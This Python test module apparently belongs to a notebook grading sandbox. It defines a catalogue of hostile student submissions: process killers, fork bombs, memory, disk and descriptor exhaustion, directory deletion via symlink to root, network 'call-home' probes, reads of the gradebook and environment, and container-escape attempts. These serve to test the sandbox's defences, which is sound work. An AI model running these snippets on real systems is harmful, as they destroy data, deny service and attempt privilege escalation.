"""Submissions that end, stop, flood or fill something, or reach for what is outside.

Their answers are right unless they say otherwise: whoever breaks only the kernel of their own loses
only what depended on it, and nobody else loses anything.
"""

from __future__ import annotations

from attack import Attack, code


def harm(name: str, before: str, deserved: float = 5, **more: str) -> Attack:
    """A cell that does harm, above right answers."""
    given = {key: code(text) for key, text in more.items()}
    return Attack(name, deserved, before=code(before), dangerous=True, **given)


ENDS = (
    harm("exit", "import sys\nsys.exit(0)"),
    harm("hard-exit", "import os\nos._exit(0)"),
    harm("quit-kernel", "exit\nquit()\nget_ipython().ask_exit()"),
    harm("kill-parents", "import os\nos.kill(os.getppid(), 9)\nos.kill(os.getpid(), 9)"),
    harm("kill-everybody", "import os\nos.kill(-1, 9)\nwhile True: pass"),
    harm("segfault", "import ctypes\nctypes.string_at(0)"),
    harm(
        "stack-overflow",
        """
        import sys
        sys.setrecursionlimit(10**9)
        def f(): f()
        f()
        """,
    ),
    harm("stop-oneself", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
    harm(
        "stop-the-watchman",
        """
        import fcntl, os, signal
        for pid in (1, 2, os.getppid()):
            for number in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGTTIN, signal.SIGINT):
                try: os.kill(pid, number)
                except OSError: pass
        blocks = []
        while True: blocks.append(bytearray(os.urandom(1) * 10**8))
        """,
    ),
    harm("run-something-else", "import os\nos.execv('/bin/sleep', ['sleep', '60'])"),
    harm(
        "run-the-kernel-again",
        """
        import os, sys
        os.execv(sys.executable, [sys.executable, '-c', 'import coursekit_agent as a; a.main()'])
        """,
    ),
    harm("die-in-answer", "import os", 3, velocity="def anomalous_velocity(*a): os._exit(1)"),
    harm("exit-in-answer", "", 3, velocity="def anomalous_velocity(*a): raise SystemExit(0)"),
)

HANGS = (
    harm("hang-in-cell", "while True: pass"),
    harm(
        "hang-stubbornly",
        """
        import signal
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True:
            try:
                while True: pass
            except BaseException: pass
        """,
    ),
    harm("hang-in-answer", "", 3, velocity="def anomalous_velocity(*a):\n    while True: pass"),
    harm(
        "hang-when-looked-at",
        """
        class Slow:
            def __array__(self, *a, **k):
                while True: pass
        """,
        3,
        velocity="anomalous_velocity = Slow()",
    ),
    harm("hang-on-input", "input('password: ')\nimport getpass\ngetpass.getpass()"),
    harm(
        "busy-threads",
        """
        import threading
        def spin():
            while True: pass
        for _ in range(20): threading.Thread(target=spin, daemon=True).start()
        """,
        5,
    ),
    harm(
        "busy-processes",
        """
        import os
        for _ in range(12):
            if os.fork() == 0:
                while True: pass
        """,
    ),
)

FLOODS = (
    harm("print-flood", "while True: print('x' * 10_000)"),
    harm(
        "stderr-flood",
        """
        import os, sys
        try:
            while True: os.write(2, b'x' * 10**6)
        except OSError: pass
        for fd in range(3, 256):
            try: os.write(fd, b'x' * 10**6)
            except OSError: pass
        """,
    ),
    harm(
        "message-flood",
        """
        from IPython.display import publish_display_data
        while True: publish_display_data({'text/plain': 'x' * 10**6})
        """,
    ),
    harm(
        "many-pictures",
        """
        import base64, zlib, struct
        from IPython.display import display, Image
        def chunk(kind, data): return struct.pack('>I', len(data)) + kind + data + bytes(4)
        size = 60_000
        head = struct.pack('>IIBBBBB', size, size, 8, 0, 0, 0, 0)
        bomb = b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', head) + chunk(b'IDAT', bytes(10**6))
        for _ in range(50): display(Image(data=bomb))
        """,
    ),
    harm(
        "clear-and-again",
        """
        from IPython.display import clear_output
        for i in range(10**5): print(i); clear_output()
        """,
    ),
)

RESOURCES = (
    harm("memory", "x = np.ones((10**5, 10**5))"),
    harm("memory-bit-by-bit", "x = []\nwhile True: x.append(np.ones(10**7))"),
    harm(
        "memory-of-many",
        """
        import os, time
        for i in range(12):
            if os.fork() == 0:
                x = [np.ones(10**7) for _ in range(20)]
                time.sleep(60)
        time.sleep(60)
        """,
    ),
    harm(
        "memory-that-no-process-holds",
        """
        import ctypes, mmap, os
        kept = []
        for make in (lambda: os.memfd_create('x'), lambda: mmap.mmap(-1, 10**9)):
            for _ in range(40):
                try: kept.append(make())
                except OSError: break
        print('KEPT', len(kept))
        """,
    ),
    harm(
        "full-scratch",
        """
        for where in ('/tmp', '/dev/shm', '/course', '/var/tmp', '.'):
            try:
                for i in range(100): open(f'{where}/{i}', 'wb').write(bytes(30_000_000))
            except OSError: pass
        """,
    ),
    harm(
        "full-of-small-files",
        """
        import os
        for where in ('/tmp', '/dev/shm', '/run'):
            try:
                for i in range(20_000): open(f'{where}/f{i}', 'w').close()
            except OSError: pass
        """,
    ),
    harm(
        "no-descriptors-left",
        """
        kept = []
        try:
            while True: kept.append(open('/dev/null'))
        except OSError: pass
        """,
    ),
    harm("fork-bomb", "import os\ntry:\n    while True: os.fork()\nexcept OSError: pass", 5),
    harm(
        "fork-and-orphan",
        """
        import subprocess
        for _ in range(300):
            try: subprocess.Popen(['python', '-c', 'import time; time.sleep(600) # @MARK@'],
                                  start_new_session=True)
            except OSError: break
        """,
    ),
    harm(
        "daemon",
        """
        import os, sys
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for fd in range(256):
                    try: os.close(fd)
                    except OSError: pass
                text = 'import time; time.sleep(600) # @MARK@'
                os.execv(sys.executable, [sys.executable, '-c', text])
            os._exit(0)
        os.wait()
        """,
    ),
    harm(
        "every-limit-lifted",
        """
        import os, resource
        for name in dir(resource):
            if name.startswith('RLIMIT_'):
                try: resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY,) * 2)
                except (OSError, ValueError): pass
        os.nice(0)
        x = np.ones((10**5, 10**5))
        """,
    ),
)

SOCKETS = (
    harm(
        "directories-replaced",
        """
        import glob, os, shutil
        for path in ('/tmp', '/course'):
            try: os.rename(path, '/tmp/x'); os.symlink('/', path)
            except OSError: pass
            shutil.rmtree(path, ignore_errors=True)
        """,
    ),
    harm(
        "descriptors-closed",
        """
        import os
        for fd in range(256):
            try: os.close(fd)
            except OSError: pass
        """,
    ),
    harm(
        "descriptors-exchanged",
        """
        import os
        null = os.open('/dev/null', os.O_RDWR)
        for fd in range(40):
            if fd != null: os.dup2(null, fd)
        """,
    ),
)

# The address is that of a listener outside, which must hear nothing.
NETWORK = (
    harm(
        "call-home",
        """
        import socket, urllib.request
        for address in (('127.0.0.1', @PORT@), ('localhost', @PORT@), ('192.0.2.1', 80)):
            try: socket.create_connection(address, timeout=1).send(b'hello')
            except OSError as error: print('NETWORK', error)
        try: urllib.request.urlopen('http://127.0.0.1:@PORT@/', timeout=1)
        except OSError: pass
        """,
    ),
    harm(
        "call-home-by-other-ways",
        """
        import socket
        for family, kind, address in (
            (socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', @PORT@)),
            (socket.AF_INET6, socket.SOCK_STREAM, ('::1', @PORT@)),
            (socket.AF_UNIX, socket.SOCK_STREAM, '\\0coursekit-@PORT@'),
            (socket.AF_VSOCK, socket.SOCK_STREAM, (2, @PORT@)),
        ):
            try:
                s = socket.socket(family, kind); s.settimeout(1); s.connect(address); s.send(b'x')
                print('REACHED' if kind == socket.SOCK_STREAM else 'sent', family)
            except OSError as error: print('CLOSED', error)
        """,
    ),
    harm(
        "look-around",
        """
        import os, sys
        seen = []
        for root, dirs, files in os.walk('/'):
            # nbgrader's own package holds files of these names
            if root.startswith(('/proc', '/sys', '/usr', sys.prefix)): dirs.clear(); continue
            seen += {'gradebook.db', '.grading-seed', 'nbgrader_config.py'} & {*files}
        print('SEEN', len(seen))
        try: print(open('@COURSE@/gradebook.db').read())
        except OSError as error: print('CLOSED', error)
        print('ENVIRONMENT', sorted(os.environ))
        """,
    ),
    harm(
        "break-out",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.unshare(0x10000000)
        libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)
        libc.ptrace(16, 1, 0, 0)
        for call in (lambda: os.setuid(0), lambda: os.chroot('/tmp'), lambda: os.setns(0, 0),
                     lambda: os.mknod('/tmp/disk', 0o60666, os.makedev(8, 0))):
            try: call(); print('DONE')
            except OSError: pass
            except AttributeError: pass
        try: open('/proc/1/mem', 'r+b'); print('DONE')
        except OSError: pass
        try: open('/proc/sys/kernel/core_pattern', 'w').write('|/tmp/x'); print('DONE')
        except OSError: pass
        """,
    ),
)

HARMS = ENDS + HANGS + FLOODS + RESOURCES + SOCKETS + NETWORK
